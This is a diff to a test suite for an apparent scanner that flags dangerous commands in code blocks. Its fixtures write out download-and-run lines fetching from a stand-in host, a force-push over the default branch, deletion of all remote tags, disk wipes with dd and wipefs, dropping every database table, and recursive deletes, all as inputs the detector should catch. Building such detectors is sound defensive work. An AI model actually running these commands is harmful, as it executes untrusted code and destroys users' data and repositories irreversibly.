@@ -64,6 +64,11 @@ describe('threat/download-exec', () => {
     expect(threats(fence('powershell', 'iex (iwr -UseBasicParsing https://x.example.net/a.ps1).Content'))).toEqual(['threat/download-exec 8:1 error']);
     expect(threats(fence('js', 'const src = await (await fetch("https://x.example.net/r.js")).text();\neval(src);'))).toEqual(['threat/download-exec 9:1 error']);
   });
+  it('treats an allowed installer saved before it runs as that installer, and a program reading a here-document as its script', () => {
+    expect(threats(fence('bash', 'V=v0.40.1\ncurl -fsSLo /tmp/i.sh "https://raw.githubusercontent.com/nvm-sh/nvm/$V/install.sh"\nbash /tmp/i.sh'))).toEqual([]);
+    expect(threats(fence('bash', 'curl -fsSLo /tmp/i.sh "https://raw.githubusercontent.com/someone-else/nvm/v1/install.sh"\nbash /tmp/i.sh'))).toEqual(['threat/download-exec 9:1 error']);
+    expect(threats(fence('bash', 'url=$(kubectl get secret db -o jsonpath="{.data.URL}" | base64 -d)\npython3 - "$url" <<\'EOF\'\nimport sys\nprint(sys.argv[1].split("@")[-1])\nEOF'))).toEqual([]);
+  });
   it('catches a download saved, then run', () => {
     expect(threats(fence('bash', 'curl -fsSLo /tmp/agent https://x.example.net/agent\nchmod +x /tmp/agent\n/tmp/agent --daemon'))).toEqual(['threat/download-exec 10:1 error']);
   });
@@ -941,6 +946,19 @@ describe('behaviour of languages read line by line', () => {
 });
 
 describe('irreversible damage however the attacker spells it', () => {
+  it('reads a force-push over the default branch looked up at run time, and deletes of every remote tag', () => {
+    expect(threats(fence('bash', 'b=$(git symbolic-ref --short refs/remotes/origin/HEAD | cut -d/ -f2)\ngit push -f origin "$b"'))).toEqual(['threat/destructive 9:1 error']);
+    expect(threats(fence('bash', 'for t in $(git ls-remote --tags origin | cut -f2); do git push origin ":$t"; done'))).toEqual(['threat/destructive 8:55 error']);
+    expect(threats(fence('bash', 'b=$(git rev-parse --abbrev-ref HEAD)\ngit push -f origin "$b"'))).toEqual([]);
+  });
+  it('reads dd onto a disk a listing picked, and leaves loop devices over image files alone', () => {
+    expect(threats(fence('bash', 'dev=$(lsblk -dpno NAME | head -n1)\nsudo dd if=/dev/zero of="$dev" bs=1M'))).toEqual(['threat/destructive 9:1 error']);
+    expect(threats(fence('bash', 'img=$(mktemp --suffix=.img)\ntruncate -s 64M "$img"\nloop=$(sudo losetup --find --show "$img")\nsudo wipefs -a "$loop"\nsudo mkfs.ext4 -q "${loop}p1"'))).toEqual([]);
+    expect(threats(fence('bash', 'sudo wipefs -a /dev/nvme0n1'))).toEqual(['threat/destructive 8:1 error']);
+  });
+  it('drops every listed table whatever the string interpolation', () => {
+    expect(threats(fence('python', 'import psycopg\ncur = psycopg.connect(URL).cursor()\ncur.execute("select tablename from pg_tables")\nfor (t,) in cur.fetchall():\n    cur.execute(f\'drop table "{t}" cascade\')'))).toEqual(['threat/destructive 12:5 error']);
+  });
   it('sees a delete under a command that may print nothing, and sweeps by find and rsync from an unset variable', () => {
     expect(threats(fence('bash', 'rm -rf "$(git rev-parse --show-toplevel 2>/dev/null)/"*'))).toEqual(['threat/destructive 8:1 error']);
     expect(threats(fence('bash', 'find "$PROJECT_ROOT/" -mindepth 1 -delete'))).toEqual(['threat/destructive 8:1 error']);
